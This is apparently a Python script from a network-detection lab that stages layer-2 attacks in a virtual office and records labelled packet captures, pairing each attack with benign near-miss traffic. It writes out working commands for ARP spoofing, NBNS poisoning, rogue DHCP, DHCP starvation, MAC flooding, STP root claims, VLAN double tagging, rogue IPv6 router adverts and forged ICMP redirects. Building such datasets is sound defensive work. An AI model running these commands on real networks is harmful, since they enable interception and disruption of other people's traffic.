"""Attacks among neighbours on one Ethernet: false ARP, names, addresses, routers; and the ordinary traffic that resembles them."""

import time

import services
from lab import LAB, Capture, Lab
from office import MACS, Office
from registry import Sample, scene

ATTACKER, ATTACKER_MAC = '192.168.10.66', '08:00:27:5e:66:66'


def intruder(lab: Lab, switch, *, ipv6: bool = False, address: bool = True):
    host = lab.host('intruder', ipv6)
    lab.plug(host, switch, ATTACKER_MAC)
    if address:
        host.address(f'{ATTACKER}/24', *(['fd00:10::66/64'] if ipv6 else []))
        host.route('192.168.10.1')
    return host


@scene(Sample(
    'arp-spoofing.pcap', 'arpspoof (dsniff) stands between alice and the router: both ends, eight seconds, while she browses.',
    'Every two seconds the intruder tells alice that it is the router, and the router that it is alice; her requests go through it; at the end arpspoof puts the true addresses back.',
    ['`arp-spoofing`: 192.168.10.1 and 192.168.10.21 are claimed by 08:00:27:5e:66:66 (ATT&CK T1557.002)', 'no `rogue-dhcp`, no `host-sweep`'],
    ['arp.opcode == 2 && eth.src == 08:00:27:5e:66:66 | the lies (and, at the end, the truth)', 'arp.duplicate-address-detected | Wireshark sees it, too', 'eth.dst == 08:00:27:5e:66:66 && tcp | what goes through the intruder']))
def arp_spoofing(lab: Lab) -> None:
    office = Office(lab, ('alice', 'bob'), ('web',), delay_ms=1)
    services.web(office.web)
    eve = intruder(lab, office.switch)
    eve.sysctl('net.ipv4.ip_forward', '1')
    eve.sysctl('net.ipv4.conf.all.send_redirects', '0')
    eve.sysctl('net.ipv4.conf.eth0.send_redirects', '0')
    with Capture(office.switch, 'arp-spoofing.pcap', 'tcpdump', '-i', 'br0'):
        office.alice.run('curl', '-s', '-o', '/dev/null', 'http://www.example.com/about.html')
        office.bob.run('ping', '-c', '2', '-i', '0.3', '192.168.10.1')
        poison = eve.spawn('arpspoof', '-i', 'eth0', '-t', '192.168.10.21', '-r', '192.168.10.1', show='arpspoof -i eth0 -t 192.168.10.21 -r 192.168.10.1')
        time.sleep(3)
        for _ in range(3):
            office.alice.run('curl', '-s', '-o', '/dev/null', 'http://www.example.com/about.html')
            time.sleep(1.5)
        poison.terminate()
        time.sleep(6)


@scene(Sample(
    'arp-new-card.pcap', 'A host gets a new network card, and says so; the router is asked again and again at its normal rate. Near miss of ARP spoofing.',
    'bob answers pings, goes down, comes back with another MAC and announces it (gratuitous ARP); alice asks for ten neighbours, as programs do in a morning.',
    ['no `arp-spoofing`: one address moved once, and the old card is silent from then on', 'no `host-sweep`'],
    ['arp | everything']))
def arp_new_card(lab: Lab) -> None:
    office = Office(lab, ('alice', 'bob', 'carol'), ())
    with Capture(office.switch, 'arp-new-card.pcap', 'tcpdump', '-i', 'br0'):
        office.alice.run('ping', '-c', '3', '-i', '0.5', '192.168.10.22')
        office.bob.note('ip link set eth0 down; ip link set eth0 address 00:1b:21:5c:b0:99; ip link set eth0 up')
        office.bob.quiet('ip', 'link', 'set', 'eth0', 'down')
        time.sleep(4)
        office.bob.quiet('ip', 'link', 'set', 'eth0', 'address', '00:1b:21:5c:b0:99')
        office.bob.quiet('ip', 'link', 'set', 'eth0', 'up')
        office.bob.run('arping', '-U', '-c', '2', '-i', 'eth0', '192.168.10.22')
        office.alice.run('ping', '-c', '4', '-i', '0.5', '192.168.10.22')
        for last in (1, 23, 24):
            office.alice.run('ping', '-c', '2', '-i', '0.3', '-W', '1', f'192.168.10.{last}')


@scene(Sample(
    'nbns-poisoning.pcap', 'ettercap (nbns_spoof) answers every NetBIOS name that anybody asks for.',
    'Three people look up file servers that do not exist, by NetBIOS broadcast (nmblookup); ettercap answers all of them with the address of the intruder.',
    ['`name-poisoning`: 192.168.10.66 answers for six names over NBNS (ATT&CK T1557.001)', 'no `host-sweep`'],
    ['nbns.flags.response == 0 | questions to everybody', 'nbns.flags.response == 1 | and one who always knows']))
def nbns_poisoning(lab: Lab) -> None:
    office = Office(lab, ('alice', 'bob', 'carol'), ())
    eve = intruder(lab, office.switch)
    names = LAB / 'etc/ettercap/etter.nbns'
    names.write_text(f'* {ATTACKER}\n')
    with Capture(office.switch, 'nbns-poisoning.pcap', 'tcpdump', '-i', 'br0'):
        eve.spawn('ettercap', '-T', '-q', '-i', 'eth0', '-P', 'nbns_spoof', '-z', '///', '///', show='ettercap -T -q -i eth0 -P nbns_spoof   # etter.nbns: * 192.168.10.66')
        time.sleep(4)
        for person, asked in ((office.alice, ('FILESRV', 'PRINTR')), (office.bob, ('INTRANETT', 'WPAD')), (office.carol, ('FILESRV', 'BACKUP1', 'SCANNER7'))):
            for name in asked:
                person.run('nmblookup', '-B', '192.168.10.255', name)


@scene(Sample(
    'nbns-names.pcap', 'Three machines answer for their own NetBIOS names. Near miss of name poisoning.',
    'Samba\'s nmbd on three machines registers and defends its name and group; each is looked up by its name.',
    ['no `name-poisoning`: each answers for itself'],
    ['nbns.flags.response == 1 | each answers for its own name']))
def nbns_names(lab: Lab) -> None:
    office = Office(lab, ('alice', 'bob', 'carol', 'kiosk'), ())
    with Capture(office.switch, 'nbns-names.pcap', 'tcpdump', '-i', 'br0'):
        for name in ('bob', 'carol', 'kiosk'):
            services.samba(getattr(office, name), name.upper(), shares=False)
        time.sleep(9)
        for name in ('BOB', 'CAROL', 'KIOSK', 'BOB'):
            office.alice.run('nmblookup', '-B', '192.168.10.255', name)


LEASE = ('busybox', 'udhcpc', '-i', 'eth0', '-n', '-q', '-f', '-t', '3', '-T', '2', '-s', '/bin/true')


@scene(Sample(
    'dhcp-two-servers.pcap', 'A second DHCP server appears in the office and offers addresses with itself as the router.',
    'The router\'s dnsmasq and one on the intruder answer the same questions; carol takes what comes first. The intruder\'s offer names itself as router and name server.',
    ['`rogue-dhcp`: 192.168.10.1 and 192.168.10.66 both offer addresses, with different routers (ATT&CK T1557.003)'],
    ['dhcp.option.dhcp == 2 | offers, from two servers', 'dhcp.option.router == 192.168.10.66 | the one that wants the traffic']))
def dhcp_two_servers(lab: Lab) -> None:
    office = Office(lab, ('alice', 'bob', 'carol'), (), addresses=False, dhcp=True)
    eve = intruder(lab, office.switch)
    with Capture(office.switch, 'dhcp-two-servers.pcap', 'tcpdump', '-i', 'br0'):
        office.alice.run(*LEASE)
        services.dnsmasq(eve, '--interface=eth0', '--dhcp-range=192.168.10.200,192.168.10.220,255.255.255.0,1h', '--dhcp-authoritative',
                         f'--dhcp-option=option:router,{ATTACKER}', f'--dhcp-option=option:dns-server,{ATTACKER}')
        eve.note('dnsmasq --dhcp-range=192.168.10.200,192.168.10.220,1h --dhcp-authoritative --dhcp-option=option:router,192.168.10.66')
        for person in (office.bob, office.carol):
            person.run(*LEASE)


@scene(Sample(
    'dhcp-starvation.pcap', 'yersinia asks for every address that the DHCP server has, with a new MAC each time.',
    'A flood of DISCOVERs from invented hardware addresses, cut after 240 frames; the server offers until nothing is left.',
    ['`rogue-dhcp`, technique starvation: hundreds of clients in a moment', 'no `arp-spoofing`'],
    ['dhcp.option.dhcp == 1 | everybody wants an address']))
def dhcp_starvation(lab: Lab) -> None:
    office = Office(lab, ('alice',), (), addresses=False, dhcp=True)
    eve = intruder(lab, office.switch, address=False)
    with Capture(office.switch, 'dhcp-starvation.pcap', 'tcpdump', '-i', 'br0', '-c', '240'):
        office.alice.run(*LEASE)
        eve.run('sh', '-c', 'cd /run/lab/work; sleep 3 | timeout 3 yersinia dhcp -attack 1 -interface eth0', show='timeout 2 yersinia dhcp -attack 1 -interface eth0')


@scene(Sample(
    'mac-flood.pcap', 'macof (dsniff) fills the table of the switch with invented addresses.',
    'Some 1,300 frames from as many hardware addresses that do not exist, all from one cable (of 2,600; the bridge drops those whose source is a group address).',
    ['`mac-flood`: hundreds of hardware addresses that each say one thing', 'no `syn-flood`: no host is asked twice', 'no `host-sweep`, no `port-scan`'],
    ['ip.len == 20 | invented packets between invented hosts (macof writes the length of their IP header alone)']))
def mac_flood(lab: Lab) -> None:
    office = Office(lab, ('alice', 'bob'), ())
    eve = intruder(lab, office.switch)
    with Capture(office.switch, 'mac-flood.pcap', 'tcpdump', '-i', 'br0'):
        office.alice.run('ping', '-c', '2', '-i', '0.3', '192.168.10.22')
        eve.run('macof', '-i', 'eth0', '-n', '2600', show='macof -i eth0 -n 2600')
        office.alice.run('ping', '-c', '2', '-i', '0.3', '192.168.10.22')


@scene(Sample(
    'stp-root-claim.pcap', 'yersinia claims to be the root of the spanning tree.',
    'Configuration BPDUs of the switch, then better ones from the intruder every second and a half; recorded at the intruder\'s own port.',
    ['`stp-attack`: a second bridge claims the root with a lower identifier'],
    ['stp.root.hw | who is the root']))
def stp_root_claim(lab: Lab) -> None:
    switch = lab.switch()
    eve = intruder(lab, switch)
    switch.quiet('ip', 'link', 'set', 'br0', 'type', 'bridge', 'stp_state', '1')
    # Bridges keep BPDUs to themselves, so the recording is at the intruder's port and not at br0.
    with Capture(eve, 'stp-root-claim.pcap', 'tcpdump', '-i', 'eth0'):
        # A root that has stood for a while.
        time.sleep(24)
        eve.run('sh', '-c', 'cd /run/lab/work; sleep 12 | timeout 12 yersinia stp -attack 4 -interface eth0', show='timeout 12 yersinia stp -attack 4 -interface eth0')


@scene(Sample(
    'vlan-double-tag.pcap', 'yersinia sends a frame with two VLAN tags, to reach a network it does not belong to.',
    'ICMP echo requests in frames with two 802.1Q tags, from a port where nobody sends tags.',
    ['`vlan-hopping`: double tags'],
    ['vlan.id && icmp | two tags in one frame']))
def vlan_double_tag(lab: Lab) -> None:
    office = Office(lab, ('alice', 'bob'), ())
    eve = intruder(lab, office.switch)
    with Capture(office.switch, 'vlan-double-tag.pcap', 'tcpdump', '-i', 'br0'):
        office.alice.run('ping', '-c', '12', '-i', '0.3', '192.168.10.22')
        eve.run('ping', '-c', '4', '-i', '0.3', '192.168.10.22')
        for _ in range(3):
            eve.run('sh', '-c', f'cd /run/lab/work; sleep 2 | timeout 2 yersinia dot1q -attack 1 -interface eth0 -vlan1 1 -vlan2 20 -source {ATTACKER_MAC} -ipsource {ATTACKER} -ipdest 192.168.20.5',
                    show='timeout 2 yersinia dot1q -attack 1 -interface eth0 -vlan1 1 -vlan2 20 -ipdest 192.168.20.5')


@scene(Sample(
    'fake-router-ipv6.pcap', 'atk6-fake_router26 announces itself as the router of an IPv6 network that has one.',
    'Router advertisements of the router (dnsmasq), then of the intruder with another prefix and a high preference.',
    ['`rogue-router`: a second router advertises, with a prefix of its own (ATT&CK T1557)'],
    ['icmpv6.type == 134 | router advertisements, from two senders']))
def fake_router_ipv6(lab: Lab) -> None:
    office = Office(lab, ('alice',), (), ipv6=True, ra=True)
    eve = intruder(lab, office.switch, ipv6=True)
    with Capture(office.switch, 'fake-router-ipv6.pcap', 'tcpdump', '-i', 'br0'):
        for _ in range(9):
            office.alice.run('rdisc6', '-1', 'eth0')
            time.sleep(4)
        eve.run('timeout', '14', 'atk6-fake_router26', '-A', 'fd00:66::/64', '-p', 'high', 'eth0', show='timeout 14 atk6-fake_router26 -A fd00:66::/64 -p high eth0')
        office.alice.run('rdisc6', '-1', 'eth0')


@scene(Sample(
    'icmp-redirect.pcap', 'hping3 tells alice that the way to the web server leads through the intruder.',
    'Forged ICMP redirects (host) in the name of the router, each with the header of one of alice\'s packets.',
    ['`rogue-router`: ICMP redirects towards 192.168.10.66'],
    ['icmp.type == 5 | the redirects']))
def icmp_redirect(lab: Lab) -> None:
    office = Office(lab, ('alice',), ('web',), delay_ms=1)
    services.web(office.web)
    eve = intruder(lab, office.switch)
    with Capture(office.switch, 'icmp-redirect.pcap', 'tcpdump', '-i', 'br0'):
        office.alice.run('curl', '-s', '-o', '/dev/null', 'http://www.example.com/about.html')
        eve.run('hping3', '-q', '-n', '-c', '5', '-i', 'u300000', '-a', '192.168.10.1', '--icmp', '--icmptype', '5', '--icmpcode', '1', '--icmp-gw', ATTACKER,
                '--icmp-ipsrc', '192.168.10.21', '--icmp-ipdst', '10.20.0.10', '--icmp-ipproto', '6', '192.168.10.21')
        office.alice.run('curl', '-s', '-o', '/dev/null', 'http://www.example.com/about.html')
